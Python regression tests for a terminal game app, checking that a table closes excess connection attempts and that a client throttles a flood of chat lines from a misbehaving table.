async def test_a_knock_turned_away_costs_the_table_no_connection_of_its_own(users, tmp_path,
                                                                           monkeypatch):
    """The real flood (issue 23, item 5): carol knocked thousands of times a second, and
    alice's table made a transport, a reader and a task for each knock before turning
    it away, thousands in one turn of its loop: its players waited many seconds, and
    the table dropped out of everyone's list. Now a knock past carol's rate is closed
    unread as it comes off the queue: of 300, only her burst gets a connection of the
    table's, and bob sits down and lists the table as ever."""
    from ebbes_tui.table.connections import CONNECT_BURST

    alice, bob, carol = (users.system(u) for u in ("alice", "bob", "carol"))
    parent = tmp_path / "tmp"
    opened = []  # every stream the table's loop made for a connection
    real = asyncio.StreamReaderProtocol.__init__

    def counted(self, *args, **kw):
        opened.append(self)
        real(self, *args, **kw)

    monkeypatch.setattr(asyncio.StreamReaderProtocol, "__init__", counted)
    burst = int(CONNECT_BURST)
    async with LocalTable(tmp_path, spec("tue", alice, seats="player,player", open=True),
                          system=alice, clock=ManualClock(), parent=parent) as table:
        knocks = []
        try:
            for _ in range(300):
                knock = carol.client_socket()
                knock.setblocking(False)
                knock.connect_ex(str(table.address.path))
                knocks.append(knock)
            await until(lambda: all(_closed_by_table(k) for k in knocks[burst:]))
            assert len(opened) == burst
            [listed] = await find_tables(parent, system=bob)
            assert (listed["host"], listed["name"], listed["phase"]) == ("alice", "tue", "lobby")
            seated = await connect_table("alice/tue", directory=parent, system=bob)
            assert seated.login == "bob"
            seated.sock.close()
        finally:
            for knock in knocks:
                knock.close()


def _closed_by_table(sock: socket.socket) -> bool:
    """Whether the table has closed ``sock``'s connection (it reads as ended)."""
    try:
        return sock.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


async def test_a_table_flooding_chat_is_passed_on_only_as_fast_as_a_table_lets_people_chat(
        users, tmp_path):
    """carol's table sends 5,000 chat lines at once (each line a message to draw, the
    CPU of bob's terminal spent on it): bob's client passes on as many as an honest table
    of eight chatting seats could send, says once that the rest is not shown, and reads
    on (the lobby after the flood comes through)."""
    bob, carol = users.system("bob"), users.system("carol")
    parent = tmp_path / "tmp"
    flood = [json.dumps({"type": "chat", "from": "carol", "text": f"line {i}"}).encode() + b"\n"
             for i in range(5000)]
    async with FakeTable(own_address("fri", parent, carol), carol, answering_lines(
            json.dumps(WELCOME).encode() + b"\n", *flood, json.dumps(LOBBY).encode() + b"\n")):
        client = await TableClient.start(await connect_table("fri", directory=parent,
                                                             system=bob))
        seen = []
        while not seen or not isinstance(seen[-1], Lobby):
            seen.append(await asyncio.wait_for(client.next_lobby_event(), WAIT))
        client.close()
    chat = [e for e in seen if isinstance(e, ChatLine)]
    refused = [e for e in seen if isinstance(e, Refused)]
    assert CHAT_PASSED_BURST <= len(chat) < CHAT_PASSED_BURST + 50, len(chat)
    assert [e.text for e in chat[:2]] == ["line 0", "line 1"]  # the first, in order
    assert [e.text for e in refused] == [
        "The table carol/fri sends more chat than a table lets its players say: "
        "some of its lines are not shown."]
